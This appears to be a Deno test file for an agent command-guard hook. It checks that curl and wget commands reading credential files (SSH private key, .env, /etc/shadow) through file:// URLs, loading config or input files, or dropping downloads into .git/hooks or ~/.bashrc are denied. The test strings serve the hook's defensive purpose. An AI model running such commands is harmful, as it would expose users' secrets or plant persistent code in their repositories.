import { deepStrictEqual } from "node:assert/strict";
import { ruleOf } from "./testdata/bypass_helpers.ts";

Deno.test("hook_judges_the_file_a_curl_or_wget_file_url_reads", () => {
  for (
    const c of [
      "curl file:///home/agent/.ssh/id_rsa",
      "curl file://localhost/workspace/.env",
      "curl --url file:///etc/shadow",
      "curl --url=file:///workspace/.env",
      "curl -s FILE:///workspace/.env",
      "wget file:///workspace/.env",
    ]
  ) deepStrictEqual(ruleOf(c), "path.denied", c);
  deepStrictEqual(ruleOf("curl file:///workspace/README.md"), "allow");
});

Deno.test("hook_denies_curl_config_files_and_wget_input_files", () => {
  for (
    const c of [
      "curl -K /tmp/c https://a.b/",
      "curl --config=/tmp/c https://a.b/",
      "wget -i /tmp/u",
    ]
  ) {
    deepStrictEqual(ruleOf(c), "shell.dynamic_path", c);
  }
});

Deno.test("hook_judges_the_file_a_download_is_saved_under", () => {
  for (
    const c of [
      "cd .git/hooks && curl -O https://example.com/pre-commit",
      "cd ~ && wget https://example.com/.bashrc",
      "wget -P .git/hooks https://example.com/pre-push",
      "curl --output-dir .git/hooks -O https://example.com/pre-push",
    ]
  ) deepStrictEqual(ruleOf(c), "path.denied", c);
  deepStrictEqual(ruleOf("cd /tmp && curl -O https://allowed.host/file.tgz"), "allow");
});
